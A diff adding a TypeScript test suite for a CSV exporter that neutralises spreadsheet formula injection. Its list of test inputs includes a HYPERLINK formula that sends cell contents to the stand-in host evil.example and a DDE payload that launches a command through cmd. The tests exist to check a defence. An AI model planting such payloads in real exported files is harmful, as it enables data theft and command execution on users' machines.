@@ -1,0 +1,53 @@
+import { csvField, parseCsv, readFormulaSafe, toCsv } from './csv';
+
+// What a spreadsheet would run if a cell started with it (OWASP CSV injection).
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A2)',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\uff1d1+1',
+  '\uff0bcmd',
+  '\uff20SUM(A1)',
+];
+
+/** The cell as a spreadsheet sees it once the CSV is parsed: what starts its text. */
+const cellOf = (field: string) => parseCsv(field)[0]?.cells[0] ?? '';
+
+describe('CSV export cells', () => {
+  it.each(FORMULAS)('neutralises %j so no spreadsheet runs it', (value) => {
+    const cell = cellOf(csvField(value));
+    expect(cell.startsWith("'")).toBe(true);
+    expect(readFormulaSafe(cell)).toBe(value);
+  });
+
+  it.each(['plain', 'a=b', 'email@example.org', '3-4', 'a, "quoted" value', 'two\nlines', "'already quoted", ''])('leaves %j as it is and round-trips it', (value) => {
+    const cell = cellOf(csvField(value) || '""');
+    expect(cell).toBe(value);
+    expect(readFormulaSafe(cell)).toBe(value);
+  });
+
+  it.each(["'=1+1", "''@x"])('gives back %j exactly after export and import (apostrophes before a formula)', (value) => {
+    expect(readFormulaSafe(cellOf(csvField(value)))).toBe(value);
+  });
+
+  it('writes whole documents with every cell neutralised and CRLF rows', () => {
+    const doc = toCsv(['country', 'requests', 'note'], [
+      ['DE', 12, '=1+1'],
+      ['FR', 0, null],
+    ]);
+    expect(doc).toBe("country,requests,note\r\nDE,12,'=1+1\r\nFR,0,\r\n");
+    expect(parseCsv(doc).map((r) => r.cells.map(readFormulaSafe))).toEqual([
+      ['country', 'requests', 'note'],
+      ['DE', '12', '=1+1'],
+      ['FR', '0', ''],
+    ]);
+  });
+});
